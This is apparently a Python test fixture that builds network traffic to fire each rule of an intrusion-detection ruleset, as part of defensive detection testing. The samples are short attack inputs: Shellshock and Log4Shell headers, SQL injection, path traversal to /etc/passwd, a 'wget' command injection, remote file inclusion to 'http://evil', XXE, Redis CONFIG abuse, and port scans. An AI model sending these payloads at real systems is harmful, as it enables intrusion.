"""Traffic that fires each rule of own.rules, by its sid, and what it fires besides."""

from __future__ import annotations

import struct

from tests.functions.detect.boxes import Talk, connection, datagram
from tests.support.packets import A4, B4, TCP, checksum, eth, ip4, tcp

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"


def get(target: bytes, *headers: bytes, method: bytes = b"GET", body: bytes = b"") -> Talk:
    """A request and an answer that says nothing."""
    lines = [method + b" " + target + b" HTTP/1.1", b"Host: www.example", *headers]
    lines += [b"Content-Length: %d" % len(body)] if body else []
    return [(">", b"\r\n".join(lines) + b"\r\n\r\n" + body), ("<", OK)]


def answer(status: bytes, *headers: bytes, body: bytes = b"") -> Talk:
    """A request that says nothing and its answer."""
    lines = [b"HTTP/1.1 " + status, *headers, b"Content-Length: %d" % len(body)]
    return [(">", b"GET / HTTP/1.1\r\nHost: www.example\r\n\r\n"), ("<", b"\r\n".join(lines) + b"\r\n\r\n" + body)]


def post(body: bytes) -> Talk:
    return get(b"/form", method=b"POST", body=body)


def icmp(payload: bytes) -> bytes:
    """An echo request."""
    head = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    whole = head[:2] + struct.pack(">H", checksum(head + payload)) + head[4:] + payload
    return eth(ip4(whole, 1))


def alone(flags: str, src: bytes = A4, dst: bytes = B4, ttl: int = 64, port: int = 5000) -> bytes:
    """One TCP segment."""
    packet = bytearray(ip4(tcp(port, 7, 1, flags), TCP, src, dst))
    packet[8] = ttl
    packet[10:12] = bytes(2)
    packet[10:12] = struct.pack(">H", checksum(bytes(packet[:20])))
    return eth(bytes(packet))


SMB = b"\0\0\0\x40\xffSMB"
HELLO = b"\x16\x03\x01\x00\x40\x01\x00\x00\x3c\x03\x01" + bytes(58)

WEB: dict[int, Talk] = {
    100: get(b"/a/..//etc/passwd"),
    101: get(b"/%2E%2e%2F"),
    102: get(b"/?q=1%20UnIoN%20all%20SELECT%201"),
    103: get(b"/?q=%27%20OR%201=1"),
    104: get(b"/?q=%3CScript%3E"),
    105: get(b"/", b"X: () { :;}; id"),
    106: get(b"/", b"X-Api: ${JNDI:ldap://x}"),
    107: get(b"/i.php?page=http://evil"),
    108: get(b"/scripts/CMD.exe"),
    109: post(b"a=1;wget http://x"),
    110: get(b"/", method=b"TRACE"),
    111: get(b"/x.jsp", method=b"PUT", body=b"x"),
    112: get(b"/", b"User-Agent: sqlmap/1.5"),
    113: get(b"/", b"User-Agent: Mozilla (nikto/2)"),
    114: [(">", b"GET / HTTP/1.0\r\n\r\n"), ("<", OK)],
    115: [(">", b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n"), ("<", OK)],
    116: get(b"/?PHPSESSID=1", b"Cookie: PHPSESSID=1"),
    117: get(b"/x/../wp-admin/"),
    118: get(b"/.git/config"),
    119: post(b"\xac\xed\x00\x05sr"),
    120: post(b'<!entity x System "file:///x">'),
    130: answer(b"500 Error"),
    131: answer(b"403 Forbidden"),
    132: answer(b"200 OK", body=b"MZ\x90"),
    133: answer(b"200 OK", body=b"<TITLE>Index of /</TITLE>"),
    134: answer(b"200 OK", b"Set-Cookie: session=1; Secure"),
    135: answer(b"200 OK", body=b"<b>Warning</b>: x in <b>y</b> on line <b>3</b>"),
    136: answer(b"200 OK", b"Server: Apache/1.3"),
}

PORTS: dict[int, tuple[int, Talk]] = {
    201: (21, [(">", b"USER root\r\n"), ("<", b"331 x\r\n"), (">", b"PASS x\r\n"), ("<", b"230 ok\r\n")]),
    202: (21, [(">", b"site  exec id\r\n")]),
    203: (21, [(">", b"user " + b"a" * 120 + b"\r\n")]),
    210: (25, [(">", b"vrfy root\r\n")]),
    211: (25, [(">", b"RCPT TO: |id\r\n")]),
    212: (25, [(">", b'filename="a.exe"\r\n')]),
    220: (22, [("<", b"SSH-1.5-x\r\n")]),
    221: (22, [(">", b"SSH-2.0-libssh_0.9\r\n")]),
    230: (23, [(">", b"root\r\0")]),
    231: (23, [("<", b"login incorrect\r\n")]),
    240: (139, [(">", SMB + b"u" + bytes(30) + b"\\\0i\0p\0c\0$\0")]),
    241: (445, [(">", SMB + b"r" + bytes(30))]),
    250: (6667, [(">", b"JOIN #x\r\n")]),
    251: (9999, [(">", b"\x90" * 20)]),
    252: (4444, [("<", b"uid=0(root) gid=0")]),
    253: (6379, [(">", b"*4\r\n$6\r\nCONFIG\r\n$3\r\nset\r\n$3\r\ndir\r\n$1\r\n/\r\n")]),
    254: (443, [(">", HELLO)]),
    255: (110, [("<", b"X5O!P%@AP-EICAR-STANDARD-ANTIVIRUS-TEST-FILE!")]),
}

ANY_QUERY = b"\0\1\1\0\0\1\0\0\0\0\0\0\1a\0\0\xff\0\1"
PACKETS: dict[int, list[bytes]] = {
    300: [alone("SF")],
    301: [alone("")],
    302: [alone("FPU")],
    303: [alone("A", A4, A4)] * 3,
    304: [alone("S", ttl=1)],
    305: [alone("S", port=1000 + n) for n in range(25)],
    310: [icmp(b"x" * 900)],
    311: [icmp(b"ABCDEFGHIJKLMNOPQRSTUVWABCDEFGHI")],
    320: [datagram(b"\0\1" + bytes(10) + b"\x07VERSION\x04bind\0", dport=53)],
    321: [datagram(ANY_QUERY, dport=53)] * 3,
    322: [datagram(b"\0\1/etc/passwd\0octet\0", dport=69)],
    323: [datagram(b"0\x26\x02\x01\x00\x04\x06public", dport=161)],
    324: [datagram(b"M-SEARCH * HTTP/1.1\r\n", dport=1900)] * 3,
    325: [datagram(b"\x17\0\x03\x2a" + bytes(4), sport=123)],
}


def frames(sid: int, cut: int = 1460) -> list[bytes]:
    """The packets of a case."""
    if sid in WEB:
        return connection(WEB[sid], cut)
    if sid in PORTS:
        port, talk = PORTS[sid]
        return connection(talk, cut, port=port)
    return PACKETS[sid]
